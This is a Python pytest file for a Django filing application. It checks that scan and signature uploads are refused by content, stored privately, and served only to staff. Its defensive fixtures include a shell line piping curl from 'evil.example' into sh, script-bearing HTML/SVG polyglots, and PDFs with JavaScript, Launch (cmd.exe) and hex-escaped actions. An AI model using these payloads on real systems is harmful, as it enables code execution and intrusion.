"""Uploads through the real pages (notarized paper scan, pen-and-ink signature): refused
by content, not by name; stored files have no public URL; only office staff open scans.

What "refused by content" means here:
- the first bytes must be a PDF, PNG or JPEG signature: a script renamed `.pdf`, or a GIF
  or HTML page that carries `%PDF-` further down (a polyglot read as PDF by lenient
  readers), is refused;
- a file that does start as one of those but also carries markup or active content that a
  browser or PDF reader could run (`<script`, `<html`, `/JavaScript`, `/Launch`, ...) is
  refused as well, whatever its header says;
- empty files and files over UPLOAD_MAX_BYTES are refused.
"""

import random

import pytest
from django.conf import settings
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.models import PaperVerification
from applications.models import Signature
from tests import factories

pytestmark = pytest.mark.django_db

SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
GIF_THEN_PDF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;<html><script>alert(1)</script></html>\n%PDF-1.4\n%%EOF\n"
HTML_THEN_PDF = b"<!DOCTYPE html><html><body onload=alert(1)></body></html>\n%PDF-1.4\n%%EOF\n"
PDF_THEN_HTML = b"%PDF-1.4\n<html><script>fetch('/filings/').then(r=>r.text())</script></html>\n%%EOF\n"
PDF_WITH_JAVASCRIPT = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n"
PDF_THAT_LAUNCHES = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj\n%%EOF\n"
PNG_THEN_SVG = factories.PNG_PAGE + b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'

REFUSED = {
    "a script renamed .pdf": SCRIPT,
    "a GIF with HTML and a PDF header further down": GIF_THEN_PDF,
    "an HTML page with a PDF header further down": HTML_THEN_PDF,
    "a PDF header followed by HTML and script": PDF_THEN_HTML,
    "a PDF that runs JavaScript when opened": PDF_WITH_JAVASCRIPT,
    "a PDF that launches a program": PDF_THAT_LAUNCHES,
    "a PNG carrying an SVG with script": PNG_THEN_SVG,
    "an empty file": b"",
}


def as_file(content: bytes, name="scan.pdf"):
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def upload_paper_scan(client, content: bytes, name="scan.pdf"):
    return client.post(
        "/accounts/identity/paper/",
        {"role": "owner", "document_country": "CN", "document_number": "E7654321", "scan": as_file(content, name)},
    )


def upload_signature(client, application, content: bytes, name="signed.pdf"):
    return client.post(
        f"/filings/{application.pk}/sign/upload/",
        {"page": as_file(content, name), "title": "Attorney", "shows_declaration": "on", "declaration": "on"},
    )


def stored_files():
    root = settings.PRIVATE_UPLOAD_ROOT
    return sorted(p.name for p in root.iterdir()) if root.exists() else []


@pytest.mark.parametrize("what", REFUSED)
def test_the_paper_scan_page_refuses_by_content(client, what):
    li = factories.li()  # Chinese seller mailing a notarized form
    client.force_login(li)
    response = upload_paper_scan(client, REFUSED[what])
    assert response.status_code == 200
    assert response.context["form"].errors["scan"], what
    li.refresh_from_db()
    assert li.identity_state == "unverified"
    assert not PaperVerification.objects.exists()
    assert stored_files() == []


@pytest.mark.parametrize("what", REFUSED)
def test_the_pen_and_ink_page_refuses_by_content(client, what):
    dana = factories.dana()  # US attorney signing by uploading a scanned page
    application = factories.draft(dana)
    client.force_login(dana)
    response = upload_signature(client, application, REFUSED[what])
    assert response.status_code == 400
    assert response.context["upload_form"].errors["page"], what
    assert not Signature.objects.exists()
    assert stored_files() == []


def test_an_oversized_file_is_refused_on_both_pages(client):
    too_big = factories.PDF_PAGE + b"0" * settings.UPLOAD_MAX_BYTES
    dana = factories.dana()
    client.force_login(dana)
    response = upload_signature(client, factories.draft(dana), too_big)
    assert "larger than 5 MB" in str(response.context["upload_form"].errors["page"])
    li = factories.li()
    client.force_login(li)
    response = upload_paper_scan(client, too_big)
    assert "larger than 5 MB" in str(response.context["form"].errors["scan"])
    assert stored_files() == []
    assert not Signature.objects.exists() and not PaperVerification.objects.exists()


def test_a_plain_pdf_png_or_jpeg_is_still_accepted(client):
    dana = factories.dana()
    client.force_login(dana)
    photo = b"\xff\xd8\xff\xe0" + random.Random(7).randbytes(3 * 1024 * 1024) + b"\xff\xd9"  # 3 MB of noise
    for content in (factories.PDF_PAGE, factories.PNG_PAGE, photo):
        application = factories.draft(dana)
        assert upload_signature(client, application, content).status_code == 302
    assert Signature.objects.filter(method="upload").count() == 3
    assert len(stored_files()) == 3


def test_stored_files_have_no_public_url(client):
    li = factories.li()
    client.force_login(li)
    assert upload_paper_scan(client, factories.PDF_PAGE).status_code == 302
    name = PaperVerification.objects.get().scan_name
    assert name in stored_files()  # stored under a random name, never the one given
    assert "scan" not in name and len(name) >= 32
    for prefix in ("/", "/static/", "/media/", "/uploads/", "/private_uploads/", "/files/", "/filings/", "/console/"):
        for who in ("anonymous", "owner"):
            if who == "anonymous":
                client.logout()
            else:
                client.force_login(li)
            response = client.get(prefix + name)
            assert response.status_code in (302, 403, 404), (prefix, who)
            assert factories.PDF_PAGE not in b"".join(getattr(response, "streaming_content", [response.content]))
    # the folder is apart from everything Django or a web server would serve
    root = settings.PRIVATE_UPLOAD_ROOT.resolve()
    public = [settings.STATIC_ROOT, *settings.STATICFILES_DIRS, getattr(settings, "MEDIA_ROOT", "") or None]
    for folder in filter(None, public):
        assert not root.is_relative_to(folder)


def test_only_office_staff_open_a_scan_in_the_console(client):
    paula = factories.person("paula")  # mailed a notarized form with a scan
    client.force_login(paula)
    assert upload_paper_scan(client, factories.PNG_PAGE, name="form.png").status_code == 302
    paper = PaperVerification.objects.get()
    url = f"/console/accounts/paperverification/{paper.pk}/scan/"

    assert client.get(url).status_code == 403  # not even the person who uploaded it
    client.logout()
    assert client.get(url)["Location"].startswith("/console/login/")
    client.force_login(factories.examiner())
    response = client.get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == factories.PNG_PAGE
    assert response["Content-Type"] == "image/png"  # the type found by content, with nosniff
    assert response["X-Content-Type-Options"] == "nosniff"


# --- issue 19, point 3 -----------------------------------------------------------------------
PDF_WITH_ESCAPED_JAVASCRIPT = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >> endobj\n"
PDF_WITH_ESCAPED_LAUNCH = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /L#61unch /F (cmd.exe) >> >> endobj\n%%EOF\n"
PDF_WITH_ESCAPES_SPLIT = b"%PDF-1.4\n" + b" " * (64 * 1024 - 12) + b"/#4A#61#76#61#53cript\n%%EOF\n"
ESCAPED = {
    "/S/J#61vaScript": PDF_WITH_ESCAPED_JAVASCRIPT,
    "/L#61unch": PDF_WITH_ESCAPED_LAUNCH,
    "a name of escapes only, across Django's 64 KB chunks": PDF_WITH_ESCAPES_SPLIT,
}


@pytest.mark.parametrize("what", ESCAPED)
def test_pdf_names_spelt_with_hex_escapes_are_refused_on_both_pages(client, what):
    li = factories.li()
    client.force_login(li)
    response = upload_paper_scan(client, ESCAPED[what])
    assert "PDF actions" in str(response.context["form"].errors["scan"]), what
    dana = factories.dana()
    client.force_login(dana)
    response = upload_signature(client, factories.draft(dana), ESCAPED[what])
    assert "PDF actions" in str(response.context["upload_form"].errors["page"]), what
    assert stored_files() == []
    assert not PaperVerification.objects.exists() and not Signature.objects.exists()


def test_a_refused_paper_form_leaves_no_file_behind(client):
    olivia = factories.person("olivia", verified=True)  # verified already: the form is refused
    client.force_login(olivia)
    for _ in range(3):
        response = upload_paper_scan(client, factories.PDF_PAGE)
        assert response.status_code == 302
    messages = [m.tags for m in get_messages(response.wsgi_request)]  # the code is a tag (issue 22)
    assert any("reason-already_verified" in m for m in messages)
    assert not PaperVerification.objects.exists()
    assert stored_files() == []


def test_a_refused_pen_and_ink_signature_leaves_no_file_behind(client):
    dana = factories.dana()
    application = factories.draft(dana)
    client.force_login(factories.mallory())  # no access: the filing is not found
    assert upload_signature(client, application, factories.PDF_PAGE).status_code == 404
    pat = factories.pat(attorney=dana)  # Dana's paralegal may never sign (R13, R14)
    client.force_login(pat)
    assert upload_signature(client, application, factories.PDF_PAGE).status_code == 302
    assert not Signature.objects.exists()
    assert stored_files() == []


def test_a_step_that_fails_after_storing_the_file_removes_it(client, monkeypatch):
    from applications import services

    def broken(*args, **kwargs):
        raise RuntimeError("the database went away")

    monkeypatch.setattr(services, "_record_signature", broken)
    dana = factories.dana()
    with pytest.raises(RuntimeError):
        services.sign_application(
            dana,
            factories.draft(dana),
            signature="",
            title="Attorney",
            upload=factories.upload(),
            upload_shows_declaration=True,
        )
    assert stored_files() == []


def test_scans_are_served_to_office_staff_as_attachments(client):
    paula = factories.person("paula")
    client.force_login(paula)
    assert upload_paper_scan(client, factories.PDF_PAGE).status_code == 302
    paper = PaperVerification.objects.get()
    client.force_login(factories.examiner())
    response = client.get(f"/console/accounts/paperverification/{paper.pk}/scan/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Type"] == "application/pdf"
